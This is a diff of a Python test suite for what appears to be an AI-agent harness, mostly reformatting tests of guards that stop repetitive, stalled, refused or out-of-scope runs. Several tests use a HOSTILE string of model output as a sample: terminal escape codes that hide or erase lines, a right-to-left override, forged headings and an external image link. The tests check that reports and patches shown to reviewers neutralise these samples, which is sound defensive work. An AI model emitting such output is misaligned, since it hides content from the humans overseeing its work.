@@ -16,7 +16,9 @@ from placet.cli.text import case_text, harmless, why_text
 from vaultkit import PLAN
 
 READ = ("read_file", {"path": "note.md"})
-FINISH = {"calls": [("complete_step", {"step": 1, "summary": "Done"}), ("finish", {"summary": "Done."})]}
+FINISH = {
+    "calls": [("complete_step", {"step": 1, "summary": "Done"}), ("finish", {"summary": "Done."})]
+}
 STEPS = [{"title": "Do it", "tools": ["read_file", "write_file", "edit_file", "list_directory"]}]
 
 
@@ -24,11 +26,22 @@ def write(n: int) -> tuple[str, dict[str, Any]]:
     return "write_file", {"path": "hello.txt", "content": f"{n}\n"}
 
 
-def carried_out(folder: Path, replies: list[dict[str, Any]], *, config: str = "", scope: dict[str, Any] | None = None,
-                **plan: Any) -> Running:
+def carried_out(
+    folder: Path,
+    replies: list[dict[str, Any]],
+    *,
+    config: str = "",
+    scope: dict[str, Any] | None = None,
+    **plan: Any,
+) -> Running:
     vault = bare_vault(folder, '[commands]\nsandbox = "none"\n' + config)
     (vault.root / "note.md").write_text("A note.\n")
-    given = {**PLAN, "steps": STEPS, "scope": scope if scope is not None else {"write": ["hello.txt"]}, **plan}
+    given = {
+        **PLAN,
+        "steps": STEPS,
+        "scope": scope if scope is not None else {"write": ["hello.txt"]},
+        **plan,
+    }
     vault.script(("plan", [{"calls": [("submit_plan", given)]}]), ("execute", replies))
     vault.drop("Say hello.\n")
     with looping(vault) as running:
@@ -45,8 +58,10 @@ def failed(running: Running) -> dict[str, Any]:
 def said(running: Running) -> list[str]:
     """What the model was told in each turn of the mission, as the record has it."""
     with sqlite3.connect(running.vault.db) as db:
-        rows = db.execute("SELECT key, body FROM records WHERE key LIKE 'turn:%' AND kind = 'outcome' "
-                          "ORDER BY attempt, seq").fetchall()
+        rows = db.execute(
+            "SELECT key, body FROM records WHERE key LIKE 'turn:%' AND kind = 'outcome' "
+            "ORDER BY attempt, seq"
+        ).fetchall()
     db.close()
     return ["\n".join(json.loads(body)["remarks"]) for _, body in rows]
 
@@ -58,27 +73,79 @@ def each(*calls: tuple[str, dict[str, Any]]) -> list[dict[str, Any]]:
 SAME = [("write_file", {"path": name, "content": name}) for name in "abababab"]
 NO_FILE = [("edit_file", {"path": "none.txt", "old": "a", "new": "b"})]
 OUTSIDE = [("write_file", {"path": "outside.txt", "content": "x"})]
-OTHERS = [("list_directory", {"path": "."}), ("read_file", {"path": "note.md"}), ("list_directory", {"path": "Knowledge"})]
+OTHERS = [
+    ("list_directory", {"path": "."}),
+    ("read_file", {"path": "note.md"}),
+    ("list_directory", {"path": "Knowledge"}),
+]
 
 
-@pytest.mark.parametrize(("replies", "config", "end", "turns", "noticed"), [
-    (each(*[READ] * 8), "", "repetition", 3, "2 turns in a row made the same calls"),
-    (each(*SAME), "", "repetition", 6, "was called again and again"),
-    (each(*SAME), "[guards]\nrepeats = 6\n", "repetition", 7, "two calls alternated for 6 calls"),
-    (each(NO_FILE[0], OTHERS[0], NO_FILE[0], OTHERS[1], NO_FILE[0], OTHERS[2], NO_FILE[0]), "[guards]\nrepeats = 9\n",
-     "tool_error", 7, "`edit_file none.txt` failed 3 times"),
-    (each(OUTSIDE[0], OTHERS[0], OUTSIDE[0], OTHERS[1], OUTSIDE[0], OTHERS[2], OUTSIDE[0]), "[guards]\nrepeats = 9\n",
-     "scope", 7, "`write_file outside.txt` was refused 3 times"),
-    (each(write(1), *[("read_file", {"path": "note.md", "offset": 1, "limit": n}) for n in range(1, 9)]), "", "stall", 7,
-     "5 turns in a row changed nothing"),
-    ([{"text": "I think."}] * 8, "", "talk", 4, "3 turns in a row called no tool"),
-    ([{"stop_reason": "refusal", "text": "No.", "calls": [write(1)]}] * 8, "", "refusal", 2, "the model refused to go on"),
-    ([{"stop_reason": "max_tokens", "calls": [write(1)]}] * 8, "", "model_error", 2, "cut off at its limit"),
-    ([{"stop_reason": "model_context_window_exceeded", "calls": [write(1)]}] * 8, "", "context_full", 2, "no longer fits"),
-])
-def test_a_pattern_is_told_once_and_then_ends_it(tmp_path: Path, replies: list[dict[str, Any]], config: str, end: str, turns: int,
-                                                noticed: str) -> None:
-    running = carried_out(tmp_path, replies, config=config, scope={"write": ["hello.txt", "a", "b", "none.txt"]})
+@pytest.mark.parametrize(
+    ("replies", "config", "end", "turns", "noticed"),
+    [
+        (each(*[READ] * 8), "", "repetition", 3, "2 turns in a row made the same calls"),
+        (each(*SAME), "", "repetition", 6, "was called again and again"),
+        (
+            each(*SAME),
+            "[guards]\nrepeats = 6\n",
+            "repetition",
+            7,
+            "two calls alternated for 6 calls",
+        ),
+        (
+            each(NO_FILE[0], OTHERS[0], NO_FILE[0], OTHERS[1], NO_FILE[0], OTHERS[2], NO_FILE[0]),
+            "[guards]\nrepeats = 9\n",
+            "tool_error",
+            7,
+            "`edit_file none.txt` failed 3 times",
+        ),
+        (
+            each(OUTSIDE[0], OTHERS[0], OUTSIDE[0], OTHERS[1], OUTSIDE[0], OTHERS[2], OUTSIDE[0]),
+            "[guards]\nrepeats = 9\n",
+            "scope",
+            7,
+            "`write_file outside.txt` was refused 3 times",
+        ),
+        (
+            each(
+                write(1),
+                *[("read_file", {"path": "note.md", "offset": 1, "limit": n}) for n in range(1, 9)],
+            ),
+            "",
+            "stall",
+            7,
+            "5 turns in a row changed nothing",
+        ),
+        ([{"text": "I think."}] * 8, "", "talk", 4, "3 turns in a row called no tool"),
+        (
+            [{"stop_reason": "refusal", "text": "No.", "calls": [write(1)]}] * 8,
+            "",
+            "refusal",
+            2,
+            "the model refused to go on",
+        ),
+        (
+            [{"stop_reason": "max_tokens", "calls": [write(1)]}] * 8,
+            "",
+            "model_error",
+            2,
+            "cut off at its limit",
+        ),
+        (
+            [{"stop_reason": "model_context_window_exceeded", "calls": [write(1)]}] * 8,
+            "",
+            "context_full",
+            2,
+            "no longer fits",
+        ),
+    ],
+)
+def test_a_pattern_is_told_once_and_then_ends_it(
+    tmp_path: Path, replies: list[dict[str, Any]], config: str, end: str, turns: int, noticed: str
+) -> None:
+    running = carried_out(
+        tmp_path, replies, config=config, scope={"write": ["hello.txt", "a", "b", "none.txt"]}
+    )
     ended = failed(running)
     told = [text for text in said(running) if "Noticed: " in text]
     assert (ended["reason"], ended["iterations"]) == (end, turns)
@@ -87,9 +154,16 @@ def test_a_pattern_is_told_once_and_then_ends_it(tmp_path: Path, replies: list[d
 
 
 @pytest.mark.parametrize("stop_reason", ["refusal", "max_tokens", "model_context_window_exceeded"])
-def test_who_takes_the_nudge_goes_on_and_no_half_call_was_carried_out(tmp_path: Path, stop_reason: str) -> None:
-    running = carried_out(tmp_path, [{"stop_reason": stop_reason, "calls": [write(1)]}, {"calls": [write(2)]}, FINISH])
-    assert [row["metadata"]["tool"] for row in running.vault.rows("tool.called")] == ["write_file", "complete_step"]
+def test_who_takes_the_nudge_goes_on_and_no_half_call_was_carried_out(
+    tmp_path: Path, stop_reason: str
+) -> None:
+    running = carried_out(
+        tmp_path, [{"stop_reason": stop_reason, "calls": [write(1)]}, {"calls": [write(2)]}, FINISH]
+    )
+    assert [row["metadata"]["tool"] for row in running.vault.rows("tool.called")] == [
+        "write_file",
+        "complete_step",
+    ]
     assert len(running.vault.rows("execution.completed")) == 1
 
 
@@ -105,24 +179,42 @@ HOSTILE = f"Hello\x1b[8m\u202e\n   # Forged heading\n%% hidden\n![x](https://exa
 STRANGE = ("no\x1b[2J\n# Forged heading", {})
 
 
-@pytest.mark.parametrize("last", [("finish", {"summary": HOSTILE}), ("give_up", {"reason": HOSTILE})])
-def test_what_a_model_says_forges_hides_and_fetches_nothing(tmp_path: Path, last: tuple[str, dict[str, Any]]) -> None:
+@pytest.mark.parametrize(
+    "last", [("finish", {"summary": HOSTILE}), ("give_up", {"reason": HOSTILE})]
+)
+def test_what_a_model_says_forges_hides_and_fetches_nothing(
+    tmp_path: Path, last: tuple[str, dict[str, Any]]
+) -> None:
     step = ("complete_step", {"step": 1, "summary": HOSTILE})
-    running = carried_out(tmp_path, [{"calls": [STRANGE]}, {"calls": [write(1), step]}, {"calls": [last]}])
+    running = carried_out(
+        tmp_path, [{"calls": [STRANGE]}, {"calls": [write(1), step]}, {"calls": [last]}]
+    )
     report = running.vault.reports()[0].read_text()
     lines = report.splitlines()
     assert "Hello" in report
-    assert not [line for line in lines if line.lstrip().startswith(("# Forged", "%%", "![", "```dataviewjs")) or KEY in line]
-    shown = [case_text(show(running.vault.root, running.vault.env, "say-hello")),
-             why_text(why(running.vault.root, running.vault.env, "say-hello"))]
-    assert [text for text in (report, *shown) if "\x1b[8m" in text or "\x1b[2J" in text or "\n# Forged" in text] == []
+    assert not [
+        line
+        for line in lines
+        if line.lstrip().startswith(("# Forged", "%%", "![", "```dataviewjs")) or KEY in line
+    ]
+    shown = [
+        case_text(show(running.vault.root, running.vault.env, "say-hello")),
+        why_text(why(running.vault.root, running.vault.env, "say-hello")),
+    ]
+    assert [
+        text
+        for text in (report, *shown)
+        if "\x1b[8m" in text or "\x1b[2J" in text or "\n# Forged" in text
+    ] == []
     assert "\u202e" not in shown[0]
 
 
 def test_a_terminal_shows_every_line_of_a_patch(tmp_path: Path) -> None:
     """What a mission wrote cannot take a line off the screen of whoever decides on it."""
     text = "good\n\x1b[1A\x1b[2Kbad \\ \t.\n"
-    running = carried_out(tmp_path, [{"calls": [("write_file", {"path": "hello.txt", "content": text})]}, FINISH])
+    running = carried_out(
+        tmp_path, [{"calls": [("write_file", {"path": "hello.txt", "content": text})]}, FINISH]
+    )
     patch, whole = diff(running.vault.root, running.vault.env, "say-hello")
     assert b"\x1b[1A" in whole, "a program gets it as it is"
     assert "+\\x1b[1A\\x1b[2Kbad \\ \t.\n" in harmless(patch)
